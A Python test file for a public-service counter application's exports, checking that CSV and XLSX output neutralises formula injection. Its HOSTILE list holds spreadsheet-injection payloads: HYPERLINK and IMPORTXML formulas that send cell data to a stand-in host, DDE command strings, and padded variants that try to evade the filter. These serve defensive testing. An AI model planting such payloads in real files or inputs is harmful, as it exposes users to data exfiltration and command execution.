"""Issue 19, finding 2: nothing typed at the counter, by the back office or through the queue
hub becomes a live formula in an export (XLSX `<f>`, or a formula-leading CSV cell)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from counter import exports, signing
from counter.desk import Desk
from counter.dossiers import Applicant
from counter.private import is_private
from tests.support.builders import draft_for

LEADS = sorted(exports.FORMULA_LEADS)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D8,"Bấm vào đây")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
]


def xlsx_formulas(path: Path) -> list[str]:
    """Every `<f>` element in every sheet of the workbook (there must be none)."""
    with zipfile.ZipFile(path) as z:
        return [
            m
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode())
        ]


def csv_cells(path: Path, separator: str = ";") -> list[str]:
    """Every cell as Excel reads it: with the separator the exports write (`[exports]
    csv_separator`, ";" by default for Vietnamese regional settings)."""
    text = path.read_bytes().decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for row in rows for cell in row]


def dangerous(cell: str) -> bool:
    s = cell.lstrip(" \u00a0\u3000")
    return bool(s) and s[0] in exports.FORMULA_LEADS


@settings(max_examples=200, deadline=None)
@given(lead=st.sampled_from(LEADS), pad=st.sampled_from(["", " ", "  "]), rest=st.text(max_size=20))
def test_no_leading_character_survives_neutralising(lead: str, pad: str, rest: str) -> None:
    text = pad + lead + rest
    out = exports.neutralise_formula(text)
    assert out == "'" + text and not dangerous(out)


@settings(max_examples=50, deadline=None)
@given(text=st.text(max_size=30))
def test_harmless_text_is_left_alone(text: str) -> None:
    if not dangerous(text):
        assert exports.neutralise_formula(text) == text


def test_every_writer_keeps_every_lead_as_text(tmp_path: Path) -> None:
    values = [lead + "1+1" for lead in LEADS] + HOSTILE
    rows = [(i, v, v) for i, v in enumerate(values)]
    csv_path = tmp_path / "t.csv"
    exports.write_csv(csv_path, ["n", "=a", "b"], rows)
    cells = csv_cells(csv_path)
    assert not [c for c in cells if dangerous(c)]
    assert "'" + HOSTILE[0] in cells  # the text is kept, only made inert
    assert is_private(csv_path)

    xlsx = tmp_path / "t.xlsx"
    exports.write_table_xlsx(
        xlsx,
        [("S", "T", ["n", "=a", "b"], rows)],
        agency="=A",
        start=date.today(),
        end=date.today(),
    )
    assert xlsx_formulas(xlsx) == []
    wb = openpyxl.load_workbook(xlsx)
    got = [c.value for row in wb.worksheets[0].iter_rows(min_row=4) for c in row[1:]]
    # The exact text, as text (XML reads a carriage return as a line feed).
    assert got == [v.replace("\r", "\n") for v in values for _ in (0, 1)]
    book = tmp_path / "b.xlsx"
    width = len(exports.BOOK_COLUMNS)
    exports.write_book_xlsx(
        book,
        [(i, *([v] * (width - 1))) for i, v in enumerate(values)],
        agency="=A",
        field="@f",
        start=date.today(),
        end=date.today(),
    )
    assert xlsx_formulas(book) == []


def test_a_hostile_dossier_exports_inert_and_signed(
    desk: Desk, tmp_path: Path, clock: object
) -> None:
    """Counter path: an organisation's name, its address and the return recipient."""
    desk.login("canbo", "1234")
    made = []
    for text in HOSTILE[:5]:
        applicant = Applicant(  # an organisation: its name may hold any punctuation
            name=text.strip() if text.strip()[0] != "\t" else "=Công ty TNHH A",
            id_number="0100000010",
            phone="0912345678",
            address=text,
            kind="organisation",
        )
        d = desk.receive(replace(draft_for(desk), applicant=applicant))
        desk.act(d.uuid, "start_processing")
        desk.act(d.uuid, "result_ready")
        desk.act(d.uuid, "return_result", to=text)
        made.append(d)
    desk.logout()
    desk.login("giamsat", "5678")
    day = made[0].received_at.date()
    result = exports.export(desk, exports.ExportRequest(day, day, tmp_path / "out"))
    xlsx = next(f.path for f in result.files if f.path.suffix == ".xlsx")
    csv_path = next(f.path for f in result.files if f.path.suffix == ".csv")
    assert xlsx_formulas(xlsx) == []
    values = [
        c.value for row in openpyxl.load_workbook(xlsx).worksheets[0].iter_rows() for c in row
    ]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in values)
    assert not [c for c in csv_cells(csv_path) if dangerous(c)]
    # The manifest hashes the bytes as written, and every file is owner-only.
    for f in result.files:
        assert f.sha256 == signing.sha256_file(f.path)
        assert is_private(f.path)
    assert is_private(result.manifest) and is_private(result.signature)


def test_queue_log_through_the_hub_link_is_inert(desk: Desk, tmp_path: Path) -> None:
    """Hub path: a dossier code linked to a ticket (the hub's link endpoint) is checked; a
    queue log with whatever is stored is written inert anyway."""
    import pytest

    from counter.errors import InvalidInput
    from counter.queue import QueueEngine, settings_from

    engine = QueueEngine(desk.store, settings_from(desk.config), clock=desk.clock)
    engine.issue("A")
    engine.call_next(3)
    with pytest.raises(InvalidInput):
        engine.link_dossier(3, '=HYPERLINK("http://evil.example")')
    desk.login("giamsat", "5678")
    today = desk.now().date()
    rows = [
        {
            "ticket": "A001",
            "area": "A",
            "priority": "",
            "issued_at": datetime(2026, 11, 26, 8, 0),
            "called_at": None,
            "counter_no": 3,
            "served_at": None,
            "finished_at": None,
            "status": "Xong",
            "dossier_code": text,
        }
        for text in HOSTILE
    ]
    result = exports.export(
        desk,
        exports.ExportRequest(today, today, tmp_path / "q", kind="queue"),
        queue_log=lambda start, end: rows,
    )
    for f in result.files:
        if f.path.suffix == ".xlsx":
            assert xlsx_formulas(f.path) == []
        else:
            assert not [c for c in csv_cells(f.path) if dangerous(c)]


def test_back_office_texts_reach_the_book_inert(tmp_path: Path) -> None:
    """Back-office path: a status note and a return recipient typed on the portal travel to
    the counter (sync) and into its Mẫu 07 book."""
    from counter.sync import sync_once
    from portal import admin
    from portal.server import ThreadedPortal
    from tests.support.sync import AGENCY, make_counter

    with ThreadedPortal(tmp_path / "portal.db") as portal:
        c = make_counter(
            tmp_path, 3, portal.url, admin.create_enrollment_code(portal.storage, AGENCY, 3)
        )
        d = c.desk.receive(draft_for(c.desk))
        c.desk.act(d.uuid, "start_processing")
        c.desk.act(d.uuid, "result_ready")
        assert sync_once(c.store, c.config).ok
        admin.set_dossier_status(
            portal.storage,
            d.code,
            "returned",
            by="=cmd|' /C calc'!A0",
            note=HOSTILE[0],
            to='=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
        )
        report = sync_once(c.store, c.config)
        assert report.ok and report.pulled == 1, report.text()
        assert c.desk.get(d.uuid).returned_to.startswith("=IMPORTXML")
        c.desk.logout()
        from counter import auth

        auth.create_officer(
            c.store,
            username="giamsat",
            full_name="Lê Văn Hùng",
            role="supervisor",
            secret="246810",
            now=c.desk.now(),
            by=auth.Officer(1, "canbo", "Trần Thị Mai", "supervisor"),
        )
        c.desk.login("giamsat", "246810")
        day = d.received_at.date()
        result = exports.export(c.desk, exports.ExportRequest(day, day, tmp_path / "out"))
        for f in result.files:
            if f.path.suffix == ".xlsx":
                assert xlsx_formulas(f.path) == []
                values = [
                    c.value
                    for row in openpyxl.load_workbook(f.path).worksheets[0].iter_rows()
                    for c in row
                ]
                assert any(isinstance(v, str) and v.startswith("=IMPORTXML") for v in values)
            else:
                cells = csv_cells(f.path)
                assert not [x for x in cells if dangerous(x)]
                assert any(x.startswith("'=IMPORTXML") for x in cells)
        c.desk.close()
